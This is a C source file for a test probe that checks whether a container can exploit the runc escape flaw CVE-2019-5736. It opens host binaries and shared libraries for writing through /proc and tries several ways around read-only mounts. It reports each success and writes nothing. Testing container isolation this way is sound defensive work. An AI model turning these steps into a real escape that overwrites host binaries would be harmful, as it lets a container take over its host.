/* Battery L-6's attacker (CVE-2019-5736), run as root in a privileged container. It watches /proc
 * for every process that appears and, for each whose /proc/PID/exe is not a file of the
 * container's own tree (a host binary: the daemon's attach child or a container's init before
 * they exec), does what the exploit does: opens it for writing at once; keeps an O_PATH
 * descriptor of it and reopens that for writing through /proc/self/fd every round, which gets
 * past ETXTBSY once the binary no longer runs; tries to make its mount writable (mount_setattr),
 * to clone the mount and make the clone writable (open_tree), and to bind it onto a file of its
 * own and remount that read-write. Then the same through /proc/PID/map_files for every file the
 * process maps, not only its binary: the host's shared libraries, plugins and any other file
 * (a library the host's root loads next is as good a target as the binary). It never writes: an
 * open for writing that succeeds is reported and closed at once.
 *
 * Usage: proc_exe_writer STOPFILE    watches until STOPFILE exists
 *        proc_exe_writer --pid PID   tries it all once on PID's exe and mappings (from the host too)
 * Prints "foreign PID DEV:INO ro=0|1" for each host binary caught, "mapping PID RANGE DEV:INO PATH
 * ro=0|1" for each of its file-backed mappings, "writable PID HOW exe|RANGE" for each way that
 * worked, and last "seen N foreign N writable N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

#define MAX_PID 4194304
#define MAX_HELD 1024

static unsigned char seen[MAX_PID / 8];
static struct {
    int fd;
    int pid;
} held[MAX_HELD];
static int nheld, nseen, nwritable;

static void writable(int pid, const char *how, const char *what) {
    printf("writable %d %s %s\n", pid, how, what);
    fflush(stdout);
    nwritable++;
}

static int open_for_writing(int fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w < 0)
        return 0;
    close(w);
    return 1;
}

/* Whether fd is a file of the container's own tree: its path, looked up here, is that file. */
static int own_file(int fd, const struct stat *st) {
    char link[64], target[4096];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n <= 0)
        return 0;
    target[n] = '\0';
    struct stat here;
    return stat(target, &here) == 0 && here.st_dev == st->st_dev && here.st_ino == st->st_ino;
}

/* The ways around the read-only mount: each one that succeeds is reported. */
static void unwrap(int pid, int fd, const char *what) {
    struct mount_attr rw = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (mount_setattr(fd, "", AT_EMPTY_PATH, &rw, sizeof rw) == 0)
        writable(pid, "mount_setattr", what);
    int clone = open_tree(fd, "", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
    if (clone >= 0) {
        if (mount_setattr(clone, "", AT_EMPTY_PATH, &rw, sizeof rw) == 0 && open_for_writing(clone))
            writable(pid, "open_tree", what);
        close(clone);
    }
    char target[] = "/tmp/proc-exe-bind-XXXXXX", source[64];
    int t = mkstemp(target);
    if (t < 0)
        return;
    close(t);
    snprintf(source, sizeof source, "/proc/self/fd/%d", fd);
    if (mount(source, target, NULL, MS_BIND, NULL) == 0) {
        if (mount(NULL, target, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
            int w = open(target, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                writable(pid, "bind", what);
                close(w);
            }
        }
        umount2(target, MNT_DETACH);
    }
    unlink(target);
}

/* Mounts already tried every way (unwrap), by mount id and inode: each attach child maps the same
 * files from the same mounts, and the watcher must stay quick enough to catch the next one. */
#define MAX_UNWRAPPED 4096
static struct {
    unsigned long long mnt, ino;
} unwrapped[MAX_UNWRAPPED];
static int nunwrapped;

static int first_try(int fd) {
    struct statx stx;
    if (statx(fd, "", AT_EMPTY_PATH, STATX_INO | STATX_MNT_ID, &stx) != 0)
        return 1;
    for (int i = 0; i < nunwrapped; i++)
        if (unwrapped[i].mnt == stx.stx_mnt_id && unwrapped[i].ino == stx.stx_ino)
            return 0;
    if (nunwrapped < MAX_UNWRAPPED) {
        unwrapped[nunwrapped].mnt = stx.stx_mnt_id;
        unwrapped[nunwrapped++].ino = stx.stx_ino;
    }
    return 1;
}

/* Every file pid maps, through /proc/PID/map_files (root of a privileged container may open
 * those): each must be on a read-only mount that none of the tries unwraps. A file of the
 * container's own tree is skipped unless always: an attach child caught before its exec may have
 * exec'd by now, and then maps the container's busybox, which is the container's to write. */
static void probe_mappings(int pid, int always) {
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/map_files", pid);
    DIR *maps = opendir(dir);
    if (maps == NULL)
        return;
    struct dirent *e;
    while ((e = readdir(maps)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char path[64 + sizeof e->d_name], target[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        int fd = open(path, O_PATH | O_CLOEXEC);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n > 0 ? n : 0] = '\0';
        struct stat st;
        struct statvfs sfs;
        if (fd >= 0 && fstat(fd, &st) == 0 && fstatvfs(fd, &sfs) == 0 && (always || !own_file(fd, &st))) {
            printf("mapping %d %s %lu:%lu %s ro=%d\n", pid, e->d_name, (unsigned long)st.st_dev,
                   (unsigned long)st.st_ino, target, (sfs.f_flag & ST_RDONLY) != 0);
            if (open_for_writing(fd))
                writable(pid, "map_files", e->d_name);
            if (first_try(fd))
                unwrap(pid, fd, e->d_name);
        }
        if (fd >= 0)
            close(fd);
    }
    closedir(maps);
}

/* Keeps the exe of pid if it is a host binary, after trying to write it every way. */
static void probe(int pid, int always) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct stat st;
    struct statvfs sfs;
    if (fstat(fd, &st) != 0 || fstatvfs(fd, &sfs) != 0 || (!always && own_file(fd, &st))) {
        close(fd);
        return;
    }
    printf("foreign %d %lu:%lu ro=%d\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
           (sfs.f_flag & ST_RDONLY) != 0);
    fflush(stdout);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
        writable(pid, "open", "exe");
        close(w);
    }
    if (open_for_writing(fd))
        writable(pid, "reopen", "exe");
    if (first_try(fd))
        unwrap(pid, fd, "exe");
    probe_mappings(pid, always);
    if (nheld < MAX_HELD) {
        held[nheld].fd = fd;
        held[nheld++].pid = pid;
    } else {
        close(fd);
    }
}

static void scan(void) {
    DIR *proc = opendir("/proc");
    if (proc == NULL)
        return;
    int self = getpid();
    struct dirent *e;
    while ((e = readdir(proc)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid >= MAX_PID || pid == self || (seen[pid / 8] & (1 << (pid % 8))) != 0)
            continue;
        seen[pid / 8] |= 1 << (pid % 8);
        nseen++;
        probe(pid, 0);
    }
    closedir(proc);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "--pid") == 0) {
        nseen = 1;
        probe(atoi(argv[2]), 1);
    } else if (argc == 2) {
        while (access(argv[1], F_OK) != 0) {
            scan();
            for (int i = 0; i < nheld; i++)
                if (held[i].fd >= 0 && open_for_writing(held[i].fd)) {
                    writable(held[i].pid, "reopen", "exe"); /* once is enough */
                    close(held[i].fd);
                    held[i].fd = -1;
                }
            sched_yield();
        }
    } else {
        fprintf(stderr, "usage: %s STOPFILE | --pid PID\n", argv[0]);
        return 2;
    }
    printf("seen %d foreign %d writable %d\n", nseen, nheld, nwritable);
    return 0;
}
